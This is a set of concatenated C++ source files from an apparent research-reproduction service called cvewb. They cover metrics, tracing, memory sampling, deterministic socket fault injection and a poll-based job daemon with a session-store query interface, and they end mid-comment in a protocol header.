  metrics.gauge_set(metrics.gauge("pool/max_queue_depth"),
                    static_cast<std::int64_t>(stats.max_queue_depth));
  const HistogramId idle = metrics.histogram("pool/worker_idle_us");
  for (const std::uint64_t us : stats.worker_idle_us) metrics.observe(idle, us);
  if (stats.completed > 0) {
    const HistogramId wait = metrics.histogram("pool/mean_task_wait_us");
    metrics.observe(wait, stats.task_wait_us / stats.completed);
    const HistogramId run = metrics.histogram("pool/mean_task_run_us");
    metrics.observe(run, stats.task_run_us / stats.completed);
  }
}

}  // namespace cvewb::obs
