// Scoped span tracing emitting Chrome trace-event JSON.
//
// A Tracer collects complete ('X') duration events into per-thread
// buffers: each thread registers once per tracer (one mutex acquisition),
// then appends to its own log under a per-log mutex that is only ever
// contended by a concurrent export.  `to_json()` renders the merged
// buffers as a `{"traceEvents": [...]}` document loadable in
// chrome://tracing or Perfetto.
//
// Tracing is a strict side-channel: spans observe wall-clock only, never
// touch RNG streams or pipeline data, so an instrumented run produces a
// byte-identical StudyResult (proven by tests/obs/obs_determinism_test).
// A null Tracer* makes Span a no-op, which is how the pipeline pays
// nothing when observability is off.
#pragma once

#include <chrono>
#include <cstdint>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

#include "util/json.h"

namespace cvewb::obs {

/// One complete ('X') trace event: a closed span on one thread.
struct TraceEvent {
  std::string name;
  std::uint64_t ts_us = 0;   // span start, microseconds since tracer epoch
  std::uint64_t dur_us = 0;  // span duration in microseconds
  std::uint32_t tid = 0;     // tracer-assigned thread id (registration order)
};

class Tracer {
 public:
  Tracer();
  ~Tracer();
  Tracer(const Tracer&) = delete;
  Tracer& operator=(const Tracer&) = delete;

  /// Microseconds since tracer construction (steady clock, monotone).
  std::uint64_t now_us() const;

  /// Append a complete event to the calling thread's buffer.
  void record(std::string name, std::uint64_t ts_us, std::uint64_t dur_us);

  /// Every recorded event, grouped by tid in registration order; within a
  /// tid, events appear in span-close order (children before parents).
  std::vector<TraceEvent> events() const;
  std::size_t event_count() const;

  /// Chrome trace-event document: {"traceEvents": [...], ...}.  Each
  /// event carries the required fields name / ph / ts / dur / pid / tid.
  util::Json to_json() const;

 private:
  struct ThreadLog;
  ThreadLog* thread_log();

  const std::uint64_t id_;  // process-unique; keys the thread-local cache
  const std::chrono::steady_clock::time_point epoch_;
  mutable std::mutex mutex_;
  std::vector<std::unique_ptr<ThreadLog>> logs_;
};

/// RAII span: records one complete trace event from construction to
/// destruction.  With a null tracer every operation is a no-op.
class Span {
 public:
  Span(Tracer* tracer, std::string name)
      : tracer_(tracer),
        name_(tracer == nullptr ? std::string() : std::move(name)),
        start_us_(tracer == nullptr ? 0 : tracer->now_us()) {}
  ~Span() {
    if (tracer_ != nullptr) {
      tracer_->record(std::move(name_), start_us_, tracer_->now_us() - start_us_);
    }
  }
  Span(const Span&) = delete;
  Span& operator=(const Span&) = delete;

 private:
  Tracer* tracer_;
  std::string name_;
  std::uint64_t start_us_;
};

}  // namespace cvewb::obs
