// Process-memory high-water probe.
//
// The paper's pipeline boiled 3 TB of capture down in bounded memory; the
// reproduction tracks where its own ceiling is.  `sample_memory()` reads
// the platform's cheap sources -- current RSS from /proc/self/statm, peak
// RSS (the high-water mark) from getrusage, heap-in-use from mallinfo2
// where glibc provides it -- and reports zeros with `supported == false`
// anywhere those are unavailable, so callers never need platform gates.
#pragma once

#include <cstdint>

#include "util/json.h"

namespace cvewb::obs {

struct MemorySample {
  std::uint64_t current_rss_bytes = 0;
  std::uint64_t peak_rss_bytes = 0;       // process high-water (ru_maxrss)
  std::uint64_t heap_in_use_bytes = 0;    // allocator-reported, 0 if unknown
  bool supported = false;

  util::Json to_json() const;
};

MemorySample sample_memory();

}  // namespace cvewb::obs
