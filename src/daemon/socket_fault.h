// Deterministic socket fault injection for the study service daemon.
//
// Same philosophy as chaos::FsShim, turned on the daemon's network I/O:
// every recv/send the server performs goes through a SocketIo, and a
// seeded SocketFaultPlan makes those operations fail the way real networks
// do -- short reads and writes that fragment frames, stalls that starve a
// connection for a poll round, resets that kill it mid-exchange.
//
// Injection is a pure function of (plan, op class, op index): each class
// keeps its own counter and derives a per-op decision via util::stream_seed,
// so a given plan perturbs exactly the same operations on every run
// regardless of wall-clock or scheduling.  A default-constructed SocketIo
// is a transparent passthrough with no RNG draws.
//
// The robustness contract the daemon must uphold against this layer
// (proven by tests/daemon/): short reads/writes and stalls change framing
// and latency but never result bytes; a reset cancels the victim's jobs
// and nothing else -- no crash, no wedge, no skew.
#pragma once

#include <cstddef>
#include <cstdint>
#include <mutex>

namespace cvewb::obs {
struct Observability;
}

namespace cvewb::daemon {

/// Seeded fault plan; rates are per-operation probabilities in [0, 1].
/// The default plan injects nothing.
struct SocketFaultPlan {
  std::uint64_t seed = 0;
  /// recv is truncated to a handful of bytes (the tiny-MTU / torn-segment
  /// model: framing must survive arbitrary fragmentation).
  double short_read_rate = 0.0;
  /// send accepts only a prefix (the full-socket-buffer model).
  double short_write_rate = 0.0;
  /// The operation makes no progress this round (EAGAIN-like stall).
  double stall_rate = 0.0;
  /// The connection is reported reset (ECONNRESET-like); the server must
  /// clean up the client and cancel its jobs.
  double reset_rate = 0.0;

  bool any() const {
    return short_read_rate > 0 || short_write_rate > 0 || stall_rate > 0 || reset_rate > 0;
  }
};

/// In-process counters for one fault layer (also exported as daemon/fault_*
/// metrics when an Observability is attached).
struct SocketFaultStats {
  std::uint64_t reads = 0;
  std::uint64_t writes = 0;
  std::uint64_t injected_short_reads = 0;
  std::uint64_t injected_short_writes = 0;
  std::uint64_t injected_stalls = 0;
  std::uint64_t injected_resets = 0;

  std::uint64_t injected_total() const {
    return injected_short_reads + injected_short_writes + injected_stalls + injected_resets;
  }
};

/// Outcome of one shimmed socket operation.
enum class IoStatus : std::uint8_t {
  kOk,          // `bytes` transferred (possibly fewer than asked)
  kWouldBlock,  // no progress; retry after the next poll round
  kClosed,      // orderly EOF from the peer
  kReset,       // connection error (real, or injected by the plan)
};

struct IoResult {
  IoStatus status = IoStatus::kOk;
  std::size_t bytes = 0;
};

/// The per-operation fault decision, exposed as a pure function so tests
/// can pin the schedule independently of any socket.
struct FaultDecision {
  bool reset = false;
  bool stall = false;
  /// 0 = no truncation; otherwise the byte cap for this operation.
  std::size_t short_cap = 0;
};

class SocketIo {
 public:
  /// Transparent passthrough: real sockets, no faults, no locking.
  SocketIo() = default;
  explicit SocketIo(SocketFaultPlan plan, obs::Observability* observability = nullptr);

  /// Nonblocking recv of up to `cap` bytes into `buf`.
  IoResult recv_some(int fd, char* buf, std::size_t cap);

  /// Nonblocking send of up to `len` bytes from `data`.
  IoResult send_some(int fd, const char* data, std::size_t len);

  const SocketFaultPlan& plan() const { return plan_; }
  SocketFaultStats stats() const;

  /// Pure decision function: what the plan injects for operation number
  /// `op_index` (0-based) of `op_class` (kReadOp / kWriteOp).
  static FaultDecision plan_decision(const SocketFaultPlan& plan, std::uint64_t op_class,
                                     std::uint64_t op_index);

  static constexpr std::uint64_t kReadOp = 1;
  static constexpr std::uint64_t kWriteOp = 2;

 private:
  FaultDecision next_decision(std::uint64_t op_class);

  SocketFaultPlan plan_{};
  obs::Observability* observability_ = nullptr;
  mutable std::mutex mutex_;
  std::uint64_t op_counter_[3] = {0, 0, 0};  // indexed by op class
  SocketFaultStats stats_;
};

}  // namespace cvewb::daemon
