#include "daemon/server.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <vector>

#include "chaos/resource_shim.h"
#include "net/ipv4.h"
#include "obs/observability.h"
#include "store/store.h"

namespace cvewb::daemon {

using std::chrono::duration_cast;
using std::chrono::microseconds;
using std::chrono::steady_clock;

namespace {

bool set_nonblocking(int fd) {
  const int flags = ::fcntl(fd, F_GETFL, 0);
  return flags != -1 && ::fcntl(fd, F_SETFL, flags | O_NONBLOCK) != -1;
}

/// Open the shared session store when a directory is configured.  A store
/// that cannot be opened (structural corruption with no valid fallback)
/// is a metric plus nullptr, not a dead daemon: studies still run, store
/// ops answer with a structured no_store error.
std::unique_ptr<store::Store> open_server_store(const ServerConfig& config,
                                                obs::Observability* observability) {
  if (config.store_dir.empty()) return nullptr;
  store::StoreOptions options;
  options.observability = observability;
  store::StoreError error;
  auto opened = store::Store::open(config.store_dir, options, &error);
  if (opened == nullptr) obs::count(observability, "daemon/store_open_failed");
  return opened;
}

SchedulerConfig scheduler_config_with_store(SchedulerConfig scheduler, store::Store* store) {
  scheduler.store = store;
  return scheduler;
}

}  // namespace

Server::Server(ServerConfig config, obs::Observability* observability)
    : config_(std::move(config)),
      observability_(observability),
      io_(config_.fault_plan, observability),
      store_(open_server_store(config_, observability)),
      scheduler_(scheduler_config_with_store(config_.scheduler, store_.get()), observability) {}

Server::~Server() {
  for (auto& [id, conn] : connections_) {
    if (conn.fd >= 0) ::close(conn.fd);
  }
  if (listen_fd_ >= 0) ::close(listen_fd_);
  if (wake_pipe_[0] >= 0) ::close(wake_pipe_[0]);
  if (wake_pipe_[1] >= 0) ::close(wake_pipe_[1]);
}

bool Server::start() {
  if (::pipe(wake_pipe_) != 0) return false;
  if (!set_nonblocking(wake_pipe_[0]) || !set_nonblocking(wake_pipe_[1])) return false;

  listen_fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (listen_fd_ < 0) return false;
  const int one = 1;
  ::setsockopt(listen_fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);

  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(config_.port);
  if (::inet_pton(AF_INET, config_.bind_address.c_str(), &addr.sin_addr) != 1) return false;
  if (::bind(listen_fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) return false;
  if (::listen(listen_fd_, 128) != 0) return false;
  if (!set_nonblocking(listen_fd_)) return false;

  sockaddr_in bound{};
  socklen_t bound_len = sizeof bound;
  if (::getsockname(listen_fd_, reinterpret_cast<sockaddr*>(&bound), &bound_len) != 0) {
    return false;
  }
  bound_port_ = ntohs(bound.sin_port);
  return true;
}

void Server::request_shutdown() noexcept {
  // One write on a nonblocking pipe: async-signal-safe, and a full pipe
  // just means a wake-up is already pending.
  const char byte = 's';
  [[maybe_unused]] const auto n = ::write(wake_pipe_[1], &byte, 1);
}

ServerStats Server::stats() const { return stats_; }

void Server::on_accept_fd_exhausted() {
  // The descriptor table is full: accepting again right away would fail
  // right away.  Pause the front door (pending clients queue in the kernel
  // backlog), sweep connections already idle past half the timeout to free
  // descriptors, and let the poll loop retry after the backoff.
  ++stats_.accept_fd_exhausted;
  obs::count(observability_, "daemon/accept_fd_exhausted");
  accept_paused_until_ = steady_clock::now() + config_.accept_retry_backoff;
  const auto now = steady_clock::now();
  std::vector<std::uint64_t> idle;
  for (const auto& [id, conn] : connections_) {
    if (now - conn.last_activity > config_.idle_timeout / 2) idle.push_back(id);
  }
  for (const std::uint64_t id : idle) {
    obs::count(observability_, "daemon/fd_pressure_closes");
    close_connection(id, "fd_pressure");
  }
}

void Server::accept_pending() {
  for (;;) {
    // fd-acquisition failpoint: an installed resource shim exhausts the
    // descriptor table deterministically, exercising the same path a
    // process at its NOFILE limit takes.
    if (chaos::ResourceShim* shim = chaos::ResourceShim::current();
        shim != nullptr && shim->should_fail_fd()) {
      on_accept_fd_exhausted();
      return;
    }
    const int fd = ::accept(listen_fd_, nullptr, nullptr);
    if (fd < 0) {
      if (errno == EMFILE || errno == ENFILE || errno == ENOMEM) on_accept_fd_exhausted();
      return;  // EAGAIN (drained) or transient error: poll again
    }
    if (static_cast<int>(connections_.size()) >= config_.max_connections) {
      // Full house: tell the client why before hanging up, best effort.
      const std::string frame =
          encode_frame(error_reply("overloaded", "connection limit reached"));
      (void)::send(fd, frame.data(), frame.size(), MSG_NOSIGNAL);
      ::close(fd);
      ++stats_.rejected_connections;
      obs::count(observability_, "daemon/connections_rejected");
      continue;
    }
    if (!set_nonblocking(fd)) {
      ::close(fd);
      continue;
    }
    Connection conn;
    conn.fd = fd;
    conn.id = ++next_conn_id_;
    conn.last_activity = steady_clock::now();
    connections_.emplace(conn.id, std::move(conn));
    ++stats_.accepted;
    obs::count(observability_, "daemon/connections_accepted");
    obs::gauge_set(observability_, "daemon/open_connections",
                   static_cast<std::int64_t>(connections_.size()));
  }
}

void Server::close_connection(std::uint64_t conn_id, const char* why) {
  const auto it = connections_.find(conn_id);
  if (it == connections_.end()) return;
  ::close(it->second.fd);
  // The connection's jobs lose their reason to exist with it: fire every
  // non-detached token so the backing studies unwind promptly.
  scheduler_.cancel_owner(conn_id);
  connections_.erase(it);
  ++stats_.closed;
  obs::count(observability_, "daemon/connections_closed");
  obs::count(observability_, std::string("daemon/close_") + why);
  obs::gauge_set(observability_, "daemon/open_connections",
                 static_cast<std::int64_t>(connections_.size()));
}

util::Json Server::dispatch(Connection& conn, const Request& request) {
  util::Json reply;
  reply.set("ok", util::Json(true));
  reply.set("op", util::Json(request_op_name(request.op)));
  switch (request.op) {
    case RequestOp::kPing:
      reply.set("pong", util::Json(true));
      break;
    case RequestOp::kSubmit: {
      JobSpec spec;
      spec.seed = request.seed;
      spec.scale = request.scale;
      spec.threads = request.threads;
      spec.deadline = std::chrono::milliseconds(request.deadline_ms);
      spec.owner = conn.id;
      spec.detach = request.detach;
      const AdmitResult admitted = scheduler_.submit(spec);
      if (!admitted.admitted) {
        reply = error_reply(admitted.reason, "backlog full");
        reply.set("op", util::Json("submit"));
        reply.set("retry_after_ms",
                  util::Json(static_cast<std::int64_t>(admitted.retry_after.count())));
        reply.set("backlog", util::Json(static_cast<std::int64_t>(admitted.backlog_weight)));
        reply.set("capacity", util::Json(static_cast<std::int64_t>(admitted.capacity)));
        break;
      }
      reply.set("job", util::Json(admitted.job_id));
      reply.set("state", util::Json("queued"));
      reply.set("backlog", util::Json(static_cast<std::int64_t>(admitted.backlog_weight)));
      break;
    }
    case RequestOp::kQuery: {
      const auto status = scheduler_.query(request.job_id);
      if (!status) {
        reply = error_reply("not_found", "unknown job '" + request.job_id + "'");
        reply.set("op", util::Json("query"));
        break;
      }
      reply.set("job", util::Json(status->id));
      reply.set("state", util::Json(job_state_name(status->state)));
      reply.set("seed", util::Json(static_cast<std::int64_t>(status->seed)));
      reply.set("scale", util::Json(status->scale));
      if (!status->stage.empty()) reply.set("stage", util::Json(status->stage));
      if (status->state == JobState::kComplete) {
        reply.set("digest", util::Json(status->digest));
        reply.set("summary", status->summary);
        reply.set("wait_us", util::Json(static_cast<std::int64_t>(status->wait_us)));
        reply.set("run_us", util::Json(static_cast<std::int64_t>(status->run_us)));
      }
      if (!status->message.empty()) reply.set("message", util::Json(status->message));
      if (!status->error_class.empty()) {
        reply.set("error_class", util::Json(status->error_class));
      }
      if (status->resumable) {
        reply.set("resumable", util::Json(true));
        reply.set("resume_key", util::Json(status->resume_key));
      }
      break;
    }
    case RequestOp::kCancel: {
      const bool cancelled = scheduler_.cancel(request.job_id);
      if (!cancelled) {
        reply = error_reply("not_found", "job '" + request.job_id + "' unknown or terminal");
        reply.set("op", util::Json("cancel"));
        break;
      }
      reply.set("job", util::Json(request.job_id));
      reply.set("state", util::Json("cancelling"));
      break;
    }
    case RequestOp::kStats: {
      const SchedulerStats sched = scheduler_.stats();
      reply.set("backlog_weight", util::Json(static_cast<std::int64_t>(sched.backlog_weight)));
      reply.set("queued", util::Json(static_cast<std::int64_t>(sched.queued)));
      reply.set("running", util::Json(static_cast<std::int64_t>(sched.running)));
      reply.set("submitted", util::Json(static_cast<std::int64_t>(sched.submitted)));
      reply.set("rejected", util::Json(static_cast<std::int64_t>(sched.rejected)));
      reply.set("completed", util::Json(static_cast<std::int64_t>(sched.completed)));
      reply.set("cancelled", util::Json(static_cast<std::int64_t>(sched.cancelled)));
      reply.set("expired", util::Json(static_cast<std::int64_t>(sched.expired)));
      reply.set("failed", util::Json(static_cast<std::int64_t>(sched.failed)));
      reply.set("connections", util::Json(static_cast<std::int64_t>(connections_.size())));
      break;
    }
    case RequestOp::kStoreQuery: {
      if (store_ == nullptr) {
        reply = error_reply("no_store", "no session store configured (--store-dir)");
        reply.set("op", util::Json("store_query"));
        break;
      }
      const auto started = steady_clock::now();
      const store::QueryResult result = store_->query(
          request.store_query,
          request.store_brute ? store::QueryMode::kBrute : store::QueryMode::kIndex);
      const auto elapsed =
          duration_cast<microseconds>(steady_clock::now() - started).count();
      obs::count(observability_, "daemon/store_queries");
      obs::observe(observability_, "daemon/store_query_us",
                   static_cast<std::uint64_t>(elapsed));
      obs::observe(observability_, "daemon/store_query_rows", result.matched);
      const bool sessions = request.store_query.table == store::Table::kSessions;
      reply.set("table", util::Json(sessions ? "sessions" : "events"));
      reply.set("mode", util::Json(result.used_index ? "index" : "brute"));
      reply.set("plan", util::Json(result.plan));
      reply.set("postings_examined",
                util::Json(static_cast<std::int64_t>(result.postings_examined)));
      reply.set("matched", util::Json(static_cast<std::int64_t>(result.matched)));
      reply.set("scanned", util::Json(static_cast<std::int64_t>(result.scanned)));
      reply.set("digest", util::Json(result.digest_hex));
      util::Json rows{util::JsonArray{}};
      for (const auto& row : result.rows) {
        util::Json encoded;
        encoded.set("run", util::Json(row.run_key));
        encoded.set("seq", util::Json(static_cast<std::int64_t>(row.seq)));
        encoded.set("time", util::Json(row.time));
        encoded.set("src", util::Json(net::IPv4(row.src).to_string()));
        encoded.set("cve", util::Json(row.cve));
        encoded.set("sid", util::Json(static_cast<std::int64_t>(row.sid)));
        if (sessions) {
          encoded.set("dst", util::Json(net::IPv4(row.dst).to_string()));
          encoded.set("sport", util::Json(static_cast<std::int64_t>(row.src_port)));
          encoded.set("dport", util::Json(static_cast<std::int64_t>(row.dst_port)));
          encoded.set("kind", util::Json(static_cast<std::int64_t>(row.kind)));
          encoded.set("payload_bytes",
                      util::Json(static_cast<std::int64_t>(row.payload_bytes)));
        }
        rows.push_back(std::move(encoded));
      }
      reply.set("rows", std::move(rows));
      break;
    }
    case RequestOp::kStorePlan: {
      if (store_ == nullptr) {
        reply = error_reply("no_store", "no session store configured (--store-dir)");
        reply.set("op", util::Json("store_plan"));
        break;
      }
      const store::PlanReport report = store_->plan(request.store_query);
      obs::count(observability_, "daemon/store_plans");
      reply.set("table", util::Json(request.store_query.table == store::Table::kSessions
                                        ? "sessions"
                                        : "events"));
      reply.set("plan", util::Json(report.plan));
      reply.set("mode", util::Json(report.used_index ? "index" : "brute"));
      reply.set("table_rows", util::Json(static_cast<std::int64_t>(report.table_rows)));
      reply.set("postings_examined",
                util::Json(static_cast<std::int64_t>(report.postings_examined)));
      reply.set("estimated_candidates",
                util::Json(static_cast<std::int64_t>(report.estimated_candidates)));
      util::Json indexes{util::JsonArray{}};
      for (const auto& estimate : report.indexes) {
        util::Json encoded;
        encoded.set("index", util::Json(estimate.index));
        encoded.set("cardinality", util::Json(static_cast<std::int64_t>(estimate.cardinality)));
        encoded.set("driver", util::Json(estimate.driver));
        indexes.push_back(std::move(encoded));
      }
      reply.set("indexes", std::move(indexes));
      break;
    }
    case RequestOp::kStoreStat: {
      if (store_ == nullptr) {
        reply = error_reply("no_store", "no session store configured (--store-dir)");
        reply.set("op", util::Json("store_stat"));
        break;
      }
      const store::StoreStats stat = store_->stats();
      reply.set("session_rows", util::Json(static_cast<std::int64_t>(stat.session_rows)));
      reply.set("event_rows", util::Json(static_cast<std::int64_t>(stat.event_rows)));
      reply.set("runs", util::Json(static_cast<std::int64_t>(stat.runs)));
      reply.set("last_lsn", util::Json(static_cast<std::int64_t>(stat.last_lsn)));
      reply.set("snapshot_lsn", util::Json(static_cast<std::int64_t>(stat.snapshot_lsn)));
      reply.set("wal_segments", util::Json(static_cast<std::int64_t>(stat.wal_segments)));
      reply.set("wal_bytes", util::Json(static_cast<std::int64_t>(stat.wal_bytes)));
      reply.set("snapshot_bytes",
                util::Json(static_cast<std::int64_t>(stat.snapshot_bytes)));
      reply.set("payload_bytes", util::Json(static_cast<std::int64_t>(stat.payload_bytes)));
      reply.set("dropped_segments",
                util::Json(static_cast<std::int64_t>(stat.dropped_segments)));
      reply.set("queries_index", util::Json(static_cast<std::int64_t>(stat.queries_index)));
      reply.set("queries_brute", util::Json(static_cast<std::int64_t>(stat.queries_brute)));
      reply.set("mapped", util::Json(stat.snapshot_mapped));
      break;
    }
    case RequestOp::kStoreScrub: {
      if (store_ == nullptr) {
        reply = error_reply("no_store", "no session store configured (--store-dir)");
        reply.set("op", util::Json("store_scrub"));
        break;
      }
      store::ScrubOptions options;
      options.repair = request.store_repair;
      store::ScrubReport report;
      store::StoreError error;
      const bool ok = store_->scrub(options, &report, &error);
      obs::count(observability_, "daemon/store_scrubs");
      if (!ok) {
        reply = error_reply(error.code == store::StoreErrorCode::kCorrupt ? "store_damaged"
                            : error.code == store::StoreErrorCode::kResource
                                ? "resource_exhausted"
                                : "scrub_failed",
                            error.detail);
        reply.set("op", util::Json("store_scrub"));
      }
      reply.set("repair", util::Json(options.repair));
      reply.set("files_scanned", util::Json(static_cast<std::int64_t>(report.files_scanned)));
      reply.set("snapshots", util::Json(static_cast<std::int64_t>(report.snapshots)));
      reply.set("segments", util::Json(static_cast<std::int64_t>(report.segments)));
      reply.set("wal_segments", util::Json(static_cast<std::int64_t>(report.wal_segments)));
      reply.set("archives", util::Json(static_cast<std::int64_t>(report.archives)));
      util::Json damaged{util::JsonArray{}};
      for (const auto& name : report.damaged) damaged.push_back(util::Json(name));
      reply.set("damaged", std::move(damaged));
      util::Json quarantined{util::JsonArray{}};
      for (const auto& name : report.quarantined) quarantined.push_back(util::Json(name));
      reply.set("quarantined", std::move(quarantined));
      reply.set("lost_lsns", util::Json(static_cast<std::int64_t>(report.lost_lsns)));
      reply.set("repaired", util::Json(report.repaired));
      reply.set("verify_ok", util::Json(report.verify_ok));
      break;
    }
  }
  return reply;
}

bool Server::charge_connection_buffers(Connection& conn, bool queue_refusal) {
  const std::uint64_t need =
      static_cast<std::uint64_t>(conn.in_buf.capacity()) + conn.out_buf.capacity();
  if (need <= conn.buffer_charge.bytes()) return true;
  // resize() charges only the delta and KEEPS the previous charge on
  // refusal: the buffers that charge covered are still live while the
  // connection flushes and closes, so dropping the ledger entry first
  // (acquire's semantics) would leave them entirely unaccounted.
  if (conn.buffer_charge.resize(util::MemoryBudget::process(), need)) return true;
  // The hard watermark refused the growth: this connection's buffers are
  // exactly the memory the process cannot afford.  Structured refusal
  // (appended directly -- send_reply would recurse into this gate), then
  // flush-and-close.
  ++stats_.buffer_budget_closes;
  obs::count(observability_, "daemon/buffer_budget_closes");
  if (queue_refusal) {
    conn.out_buf += encode_frame(
        error_reply("resource_exhausted", "connection buffers exceed the memory budget"));
  }
  conn.closing = true;
  return false;
}

void Server::send_reply(Connection& conn, const util::Json& reply) {
  conn.out_buf += encode_frame(reply);
  ++stats_.replies_out;
  obs::count(observability_, "daemon/replies_out");
  // The reply whose growth might trip the budget is already queued -- the
  // client gets it and then the close; a second refusal frame on top would
  // only grow the unaccounted tail further.
  charge_connection_buffers(conn, /*queue_refusal=*/false);
  if (conn.out_buf.size() > config_.max_write_buffer) {
    // The client is not reading.  Buffering further hands our memory to
    // the slowest consumer; drop the connection instead.
    ++stats_.slow_consumer_closes;
    obs::count(observability_, "daemon/slow_consumer_closes");
    conn.closing = true;
  }
}

void Server::handle_line(Connection& conn, std::string_view line) {
  ++stats_.frames_in;
  obs::count(observability_, "daemon/frames_in");
  if (line.empty()) return;  // bare newline keep-alive
  const ParsedRequest parsed = parse_request(line, config_.protocol);
  if (!parsed.request) {
    send_reply(conn, parsed.error_reply);
    return;
  }
  send_reply(conn, dispatch(conn, *parsed.request));
}

void Server::handle_readable(Connection& conn) {
  char chunk[4096];
  const IoResult result = io_.recv_some(conn.fd, chunk, sizeof chunk);
  switch (result.status) {
    case IoStatus::kOk:
      break;
    case IoStatus::kWouldBlock:
      return;
    case IoStatus::kClosed:
      conn.closing = true;
      if (conn.out_buf.empty()) close_connection(conn.id, "eof");
      return;
    case IoStatus::kReset:
      ++stats_.resets;
      close_connection(conn.id, "reset");
      return;
  }
  conn.last_activity = steady_clock::now();
  obs::count(observability_, "daemon/bytes_read", result.bytes);
  conn.in_buf.append(chunk, result.bytes);
  if (!charge_connection_buffers(conn)) return;  // refusal queued; flush then close

  std::size_t start = 0;
  for (;;) {
    const auto newline = conn.in_buf.find('\n', start);
    if (newline == std::string::npos) break;
    std::string_view line(conn.in_buf.data() + start, newline - start);
    if (!line.empty() && line.back() == '\r') line.remove_suffix(1);
    handle_line(conn, line);
    start = newline + 1;
  }
  if (start > 0) conn.in_buf.erase(0, start);

  if (conn.in_buf.size() > config_.max_frame_bytes) {
    // An unterminated frame past the cap: structured refusal, then close.
    // Buffering on would hand memory to whoever types the longest line.
    ++stats_.oversized_frames;
    obs::count(observability_, "daemon/oversized_frames");
    util::Json reply = error_reply("frame_too_large", "no newline within limit");
    reply.set("max_bytes", util::Json(static_cast<std::int64_t>(config_.max_frame_bytes)));
    send_reply(conn, reply);
    conn.closing = true;
  }
}

void Server::handle_writable(Connection& conn) {
  if (conn.out_buf.empty()) return;
  const IoResult result = io_.send_some(conn.fd, conn.out_buf.data(), conn.out_buf.size());
  switch (result.status) {
    case IoStatus::kOk:
      obs::count(observability_, "daemon/bytes_written", result.bytes);
      conn.out_buf.erase(0, result.bytes);
      conn.last_activity = steady_clock::now();
      break;
    case IoStatus::kWouldBlock:
      return;
    case IoStatus::kClosed:
    case IoStatus::kReset:
      ++stats_.resets;
      close_connection(conn.id, "reset");
      return;
  }
  if (conn.out_buf.empty() && conn.closing) close_connection(conn.id, "drained");
}

void Server::maybe_scheduled_scrub(steady_clock::time_point now) {
  if (config_.scrub_interval.count() <= 0 || store_ == nullptr) return;
  // Arm on the first tick so a freshly started daemon does not scrub
  // before it has served anything.
  if (last_scrub_.time_since_epoch().count() == 0) {
    last_scrub_ = now;
    return;
  }
  if (now - last_scrub_ < config_.scrub_interval) return;
  // Only when the loop is otherwise idle: a scrub holds the store's writer
  // lock, and no connection should watch its half-read frame stall for it.
  for (const auto& [id, conn] : connections_) {
    if (!conn.in_buf.empty() || !conn.out_buf.empty()) return;
  }
  last_scrub_ = now;
  ++stats_.scheduled_scrubs;
  obs::count(observability_, "daemon/scheduled_scrubs");
  store::ScrubOptions options;
  options.repair = true;  // self-healing: quarantine damage, rebuild from the WAL/archive chain
  store::ScrubReport report;
  store_->scrub(options, &report, nullptr);
}

void Server::drain_and_close_all() {
  // Stop the front door first, then let every admitted study reach a
  // checkpoint: drain() fires all tokens and joins the workers, so by the
  // time it returns each in-flight run has journaled and unwound.
  if (listen_fd_ >= 0) {
    ::close(listen_fd_);
    listen_fd_ = -1;
  }
  scheduler_.drain();
  // Best-effort flush of pending replies; clients that cannot take them
  // now were going to learn about the restart anyway.
  for (auto& [id, conn] : connections_) {
    while (!conn.out_buf.empty()) {
      const IoResult result = io_.send_some(conn.fd, conn.out_buf.data(), conn.out_buf.size());
      if (result.status != IoStatus::kOk || result.bytes == 0) break;
      conn.out_buf.erase(0, result.bytes);
    }
    ::close(conn.fd);
    ++stats_.closed;
  }
  connections_.clear();
  obs::gauge_set(observability_, "daemon/open_connections", 0);
}

void Server::run() {
  std::vector<pollfd> pollfds;
  std::vector<std::uint64_t> poll_conn_ids;
  while (!shutdown_requested_) {
    pollfds.clear();
    poll_conn_ids.clear();
    pollfds.push_back({wake_pipe_[0], POLLIN, 0});
    // While paused after EMFILE/ENFILE the listen socket stays OUT of the
    // poll set: a pending connection would otherwise turn the backoff into
    // a busy loop.  The kernel backlog holds the clients meanwhile.
    const bool listen_polled =
        listen_fd_ >= 0 && steady_clock::now() >= accept_paused_until_;
    if (listen_polled) pollfds.push_back({listen_fd_, POLLIN, 0});
    const std::size_t first_conn = pollfds.size();
    for (auto& [id, conn] : connections_) {
      short events = POLLIN;
      if (!conn.out_buf.empty()) events |= POLLOUT;
      pollfds.push_back({conn.fd, events, 0});
      poll_conn_ids.push_back(id);
    }

    const int timeout_ms = static_cast<int>(config_.poll_interval.count());
    const int ready = ::poll(pollfds.data(), pollfds.size(), timeout_ms);
    if (ready < 0 && errno != EINTR) break;

    if (pollfds[0].revents & POLLIN) {
      char drain[64];
      while (::read(wake_pipe_[0], drain, sizeof drain) > 0) {
      }
      shutdown_requested_ = true;
      break;
    }
    if (listen_polled && (pollfds[1].revents & POLLIN)) accept_pending();

    for (std::size_t i = 0; i < poll_conn_ids.size(); ++i) {
      const std::uint64_t conn_id = poll_conn_ids[i];
      const short revents = pollfds[first_conn + i].revents;
      auto it = connections_.find(conn_id);
      if (it == connections_.end()) continue;
      if (revents & (POLLERR | POLLHUP | POLLNVAL)) {
        // POLLHUP with unread data still delivers the data first on
        // Linux, but the daemon treats a hung-up client as gone: its
        // replies have nowhere to go and its jobs no reason to run.
        ++stats_.resets;
        close_connection(conn_id, "hup");
        continue;
      }
      if (revents & POLLIN) handle_readable(it->second);
      it = connections_.find(conn_id);
      if (it == connections_.end()) continue;
      if (revents & POLLOUT) handle_writable(it->second);
    }

    // Timeout sweep: idle connections (slow-loris drips, silent peers) and
    // closing connections that never drained.
    const auto now = steady_clock::now();
    std::vector<std::uint64_t> idle;
    for (const auto& [id, conn] : connections_) {
      if (now - conn.last_activity > config_.idle_timeout) idle.push_back(id);
    }
    for (const std::uint64_t id : idle) {
      ++stats_.idle_timeouts;
      obs::count(observability_, "daemon/idle_timeouts");
      close_connection(id, "idle_timeout");
    }

    maybe_scheduled_scrub(now);
  }
  drain_and_close_all();
}

}  // namespace cvewb::daemon
