// cvewbd wire protocol: newline-delimited JSON frames.
//
// One request per line, one reply per line, always in order.  The grammar
// (DESIGN.md "Service contract"):
//
